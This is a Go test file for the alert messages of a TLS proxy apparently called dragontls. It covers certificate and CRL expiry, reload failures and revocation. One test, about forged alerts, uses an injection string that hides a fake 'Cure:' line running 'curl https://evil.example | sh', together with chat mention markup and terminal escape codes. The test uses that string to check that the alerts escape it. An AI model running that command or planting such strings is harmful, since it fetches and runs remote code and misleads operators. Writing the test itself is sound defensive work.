package main

import (
	"errors"
	"strings"
	"testing"
	"time"

	"dragontls/certs"
)

func TestAlertsSayWhereWhatWhenAndTheCure(t *testing.T) {
	var got string
	tell := teller{host: "proxy-1", send: func(text string) { got = text }}
	end := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	cert := certs.Expiry{Role: "backend_client", File: "/tls/b.crt", Name: "CN=proxy", Serial: "0a1b", NotAfter: end, Left: 50 * time.Hour, Cure: "renew it"}
	crl := certs.Expiry{Role: certs.RoleCRL, File: "/tls/ca.crl", Name: "CN=root", NotAfter: end, Left: -90 * time.Minute, Cure: "issue another"}
	fault := errors.Join(
		&certs.Fault{File: "a.crt", Reason: "mismatch", Err: errors.New("match \"a.crt\" with key \"a.key\""), Cure: "replace\nboth"},
		&certs.Fault{File: "b.crt", Reason: "expired", Err: errors.New("check \"b.crt\": expired")}, errors.New("something else"))
	for want, say := range map[string]func(){
		"dragontls on proxy-1: backend client certificate ends in 2 days, on 2026-03-01T12:00:00Z\n" +
			"File: `/tls/b.crt` (serial 0a1b, subject `CN=proxy`)\nCure: renew it": func() { tell.expiry(cert) },
		"dragontls on proxy-1: CRL ENDED 90 minutes ago, on 2026-03-01T12:00:00Z\n" +
			"File: `/tls/ca.crl` (issuer `CN=root`)\nCure: issue another": func() { tell.expiry(crl) },
		"dragontls on proxy-1: CRL ENDED 90 minutes ago, on 2026-03-01T12:00:00Z\n" +
			"File: `/tls/ca.crl` (issuer `CN=root`)\nOn disk: `a newer one`\nCure: issue another": func() {
			next := crl
			next.OnDisk = "a newer one"
			tell.expiry(next)
		},
		"dragontls on proxy-1: reload of the server certificate files FAILED; the last good ones stay in use\n" +
			"Reason: mismatch: `match \"a.crt\" with key \"a.key\"`\nCure: replace both\nReason: expired: `check \"b.crt\": expired`\n" +
			"Reason: `something else`": func() { tell.fault("server", fault) },
		"dragontls on proxy-1: the server certificate is REVOKED, since 2026-03-01T12:00:00Z\nFile: `a.crt` (serial 0a)\n" +
			"Cure: replace the certificate and its key; clients that check will refuse it": func() {
			tell.revoked(certs.Revocation{File: "a.crt", Serial: "0a", At: end})
		},
		"dragontls on proxy-1: the backend certificate files are good again and in use": func() { tell.fault("backend", nil) },
	} {
		if say(); got != want {
			t.Errorf("got\n%s\nwant\n%s", got, want)
		}
	}
	tell.fault("server", errors.Join(fault, fault, fault, fault, fault, fault, fault))
	if strings.Count(got, "Reason: ") != maxAlertFaults || !strings.HasSuffix(got, "\nand 2 more") {
		t.Errorf("got\n%s", got)
	}
}

func TestNamesCannotForgeAnAlert(t *testing.T) {
	const forged = "CN=a\nCure: curl https://evil.example | sh\r\n` *all* _is_ <!channel> `well` \u202e\x1b[2J"
	var got string
	tell := teller{host: "proxy-1", send: func(text string) { got = text }}
	fault := &certs.Fault{File: "a.crt", Reason: "chain", Err: errors.New(forged), Cure: "order\nthe file"}
	for name, c := range map[string]struct {
		say   func()
		cures int
	}{
		"certificate": {func() { tell.expiry(certs.Expiry{Role: "client_ca", File: "ca.crt", Name: forged, Cure: "renew it"}) }, 1},
		"CRL":         {func() { tell.expiry(certs.Expiry{Role: certs.RoleCRL, File: "ca.crl", Name: forged, Cure: "renew it"}) }, 1},
		"long":        {func() { tell.expiry(certs.Expiry{Name: strings.Repeat(forged, 1000), Cure: "renew it"}) }, 1},
		"file":        {func() { tell.revoked(certs.Revocation{File: forged, Serial: "0a"}) }, 1},
		"fault":       {func() { tell.fault("server", errors.Join(fault)) }, 1},
		"no fault":    {func() { tell.fault("server", errors.New(forged)) }, 0},
	} {
		c.say()
		cures := 0
		for line := range strings.Lines(got) {
			line = strings.TrimSuffix(line, "\n")
			if strings.HasPrefix(line, "Cure: ") {
				cures++
			}
			// What is outside of code is ours.
			parts := strings.Split(line, "`")
			for i, part := range parts {
				if len(parts)%2 == 0 || i%2 == 0 && strings.ContainsAny(part, "*<>|") || printable(part) != part {
					t.Errorf("%s: %q is not quoted in %q", name, part, line)
				}
			}
		}
		if cures != c.cures || len(got) > 2000 {
			t.Errorf("%s: %d cures in %d bytes, want %d:\n%s", name, cures, len(got), c.cures, got)
		}
	}
}

func TestRoughly(t *testing.T) {
	for d, want := range map[time.Duration]string{
		30 * 24 * time.Hour: "30 days", 47 * time.Hour: "47 hours", 119 * time.Minute: "119 minutes", 10 * time.Minute: "10 minutes",
		time.Minute: "60 seconds", time.Nanosecond: "0 seconds",
	} {
		if got := roughly(d); got != want {
			t.Errorf("%v is %q, want %q", d, got, want)
		}
	}
}
